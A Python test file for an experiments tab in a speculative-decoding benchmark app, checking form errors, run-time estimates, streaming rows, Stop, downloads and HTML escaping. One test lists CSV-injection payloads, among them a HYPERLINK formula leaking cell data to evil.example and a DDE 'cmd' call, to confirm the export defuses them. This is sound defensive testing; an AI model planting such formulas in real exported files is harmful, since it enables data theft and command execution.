"""The Experiments tab's handlers on hand-made cells (no models): the form's errors, the time estimate and the
confirmation of a long grid, streaming rows, Stop, the downloads, escaping, and a saved run reloaded into the
views and the form."""
from __future__ import annotations

import csv
import json

from app.baseline import BaselineStore, duration
from app.context import AppContext
from app.tabs.experiments import (CONFIRM_ABOVE_S, FORM, RUN, RUN_ANYWAY, ExperimentsTab, make_experiment_handlers,
                                  read_grid, run_doctor, run_experiment, show_saved)
from engine.lab.grid import OWN, estimated_seconds
from app.views.report.files import load_result, report_html
from tests.helpers.fakes import IMG, SCRIPT, FakeEngine, assert_inert, named

TAB = named(ExperimentsTab)


def form(**kw) -> dict:
    """The handlers' input: component -> value, and TAB's components are their names."""
    data = dict(sets=["code"], prompts=SCRIPT, ks="2, 6", temps="0, 1", proposers=["draft"], target="t", drafts="d",
                draft_precs=["nf4"], target_precs=["bf16"], per_set=1, tokens=8, seed=0, doctor_state={}, result={})
    return {getattr(TAB, k): v for k, v in {**data, **kw}.items()}


def lab_context(tmp_path, measured: bool = True) -> AppContext:
    """The tab's context on a FakeEngine; ``measured``: the loaded target's target-only speed measured (the engine
    does it beside serving; the app remembers it when it reads it), else still being measured."""
    engine = FakeEngine([])
    engine.measuring = not measured
    ctx = AppContext(engine, BaselineStore(tmp_path / "b.json"))
    ctx.speed(ctx.pair())
    return ctx


def test_a_grid_streams_rows_and_saves_escaped_files(tmp_path):
    ctx = lab_context(tmp_path)
    updates = list(run_experiment(ctx, TAB, form(), "s1"))
    last = updates[-1]
    rows = last["result"]["rows"]
    assert len(rows) == 8 and {r["prompt_set"] for r in rows} == {"code", OWN}  # 2 sets x 2 k x 2 temperatures
    assert len(last["table"]) == 8
    assert last["speedup"].count('class="predicted-curve"') == 4  # one curve per set x temperature
    assert last["speedup"].count('class="measured-point"') == 4
    assert last["accept"].count('class="accept-line"') == 8
    with open(last["download_csv"]["value"]) as f:
        table = list(csv.DictReader(f))
    assert len(table) == 8 and table[0]["command"].startswith(
        "python -m bench.speed.modes --prompts experiment.json --prompt-set code")
    report = open(last["download_html"]["value"]).read()
    assert "<script" not in report.replace(SCRIPT, "") and "&lt;script&gt;" in report  # the own prompt, escaped
    assert "http" not in report.replace('xmlns="http://www.w3.org/2000/svg"', "")  # nothing to fetch
    assert_inert(last["speedup"] + last["accept"])


def test_bad_input_says_why_and_stop_keeps_the_finished_cells(tmp_path):
    ctx = lab_context(tmp_path)
    for bad, words in [(dict(ks="2, two"), "&#x27;two&#x27;"), (dict(temps="hot"), "&#x27;hot&#x27;"),
                       (dict(proposers=[]), "proposers"), (dict(tokens=2.5), "whole number")]:
        out = list(run_experiment(ctx, TAB, form(**bad), "s1"))
        assert len(out) == 1 and words in out[0]["progress"]
    handlers = make_experiment_handlers(ctx, TAB)
    stopped = False
    for update in run_experiment(ctx, TAB, form(), "s2"):
        if not stopped and update.get("table") is not None and len(update["table"]) == 1:
            stopped = ctx.cancels.cancel("s2")  # what the Stop button does
    assert stopped and handlers["stop"]
    assert update["result"]["stopped"] and len(update["result"]["rows"]) == 1
    assert "Stopped after 1 cells" in update["progress"]


def test_a_saved_run_reloads_into_the_views_and_the_form(tmp_path):
    ctx = lab_context(tmp_path)
    doctor = list(run_doctor(ctx, TAB, form(), "s3"))[-1]
    assert "Pair doctor" in doctor["doctor_out"] and "&lt;img" in doctor["doctor_out"]
    last = list(run_experiment(ctx, TAB, form(doctor_state=doctor["doctor_state"]), "s4"))[-1]
    saved = load_result(last["download_json"]["value"])
    assert saved["doctor"]["draft"] == IMG and json.loads(json.dumps(saved)) == saved
    shown = show_saved(TAB, last["download_json"]["value"])
    assert len(shown["table"]) == 8 and 'class="predicted-curve"' in shown["speedup"]
    assert shown["ks"] == "2, 6" and shown["prompts"] == SCRIPT and shown["sets"] == ["code"]
    assert read_grid(TAB, {**form(), **{n: shown[n] for n in FORM}}) == read_grid(TAB, form())
    assert "measured" in report_html(saved) and "&lt;img" in report_html(saved)
    (tmp_path / "bad.json").write_text("{not json")
    assert "could not read" in show_saved(TAB, str(tmp_path / "bad.json"))["progress"]
    (tmp_path / "other.json").write_text(json.dumps({"rows": []}))
    assert "not a saved SpecLens experiment" in show_saved(TAB, str(tmp_path / "other.json"))["progress"]


def test_the_csv_defuses_formulas_and_keeps_numbers_numbers(tmp_path):
    """A shared saved run, reloaded, is exported again as CSV: a text cell that a spreadsheet would run as a formula
    (it starts with =, +, -, @, a tab or a CR) starts with ' there; a number, a negative one too, stays a number."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1"]
    ctx = lab_context(tmp_path)
    saved = load_result(list(run_experiment(ctx, TAB, form(), "s5"))[-1]["download_json"]["value"])
    for i, row in enumerate(saved["rows"]):
        row["draft"], row["cell"] = hostile[i % len(hostile)], f"cell {i}"
    saved["rows"][0]["predicted_speedup"] = -0.5
    (tmp_path / "shared.json").write_text(json.dumps(saved))
    shown = show_saved(TAB, str(tmp_path / "shared.json"))
    with open(shown["download_csv"]["value"], newline="") as f:
        table = list(csv.DictReader(f))
    assert [r["draft"] for r in table] == ["'" + hostile[i % len(hostile)] for i in range(len(table))]
    assert [r["cell"] for r in table] == [f"cell {i}" for i in range(len(table))]
    assert table[0]["predicted_speedup"] == "-0.5" and float(table[0]["speedup"]) > 0


def test_a_short_grid_starts_at_once_with_its_estimate(tmp_path):
    ctx = lab_context(tmp_path)
    grid, speed = read_grid(TAB, form()), ctx.speed(ctx.pair())["tokens_per_s"]
    assert estimated_seconds(grid, speed) <= CONFIRM_ABOVE_S
    updates = list(run_experiment(ctx, TAB, form(), "s6"))
    assert f"Starting: about {duration(estimated_seconds(grid, speed))}" in updates[0]["progress"]
    assert f"{speed:.1f} tok/s" in updates[0]["progress"] and updates[0]["run"]["value"] == RUN
    assert len(updates[-1]["result"]["rows"]) == len(grid.cells())


def test_a_long_grid_says_how_long_and_runs_on_the_second_press(tmp_path):
    """Above a few minutes at the speed measured here, the first press shows the estimate and turns the button
    into Run anyway; the same grid pressed again runs; a changed grid is estimated again."""
    ctx = lab_context(tmp_path)
    long = form(tokens=512)
    grid = read_grid(TAB, long)
    seconds = estimated_seconds(grid, ctx.speed(ctx.pair())["tokens_per_s"])
    assert seconds > CONFIRM_ABOVE_S
    first = list(run_experiment(ctx, TAB, long, "s7"))
    assert len(first) == 1 and first[0]["run"]["value"] == RUN_ANYWAY
    assert f"takes about {duration(seconds)}" in first[0]["progress"] and f"{sum(grid.generations())} generations" in first[0]["progress"]
    assert not [c for c in ctx.engine.calls if "grid" in c]  # nothing ran
    changed = list(run_experiment(ctx, TAB, {**form(tokens=640), TAB.confirming: first[0]["confirming"]}, "s7"))
    assert len(changed) == 1 and changed[0]["run"]["value"] == RUN_ANYWAY
    second = list(run_experiment(ctx, TAB, {**long, TAB.confirming: first[0]["confirming"]}, "s7"))
    assert second[0]["run"]["value"] == RUN and second[0]["confirming"] is None
    assert len(second[-1]["result"]["rows"]) == len(grid.cells())


def test_without_a_measured_speed_the_grid_says_so_and_asks_first(tmp_path):
    ctx = lab_context(tmp_path, measured=False)
    first = list(run_experiment(ctx, TAB, form(), "s8"))
    assert len(first) == 1 and first[0]["run"]["value"] == RUN_ANYWAY
    assert "no target-only speed of t at bf16 has been measured on this machine yet" in first[0]["progress"]
    assert "min" not in first[0]["progress"] and not [c for c in ctx.engine.calls if "grid" in c]
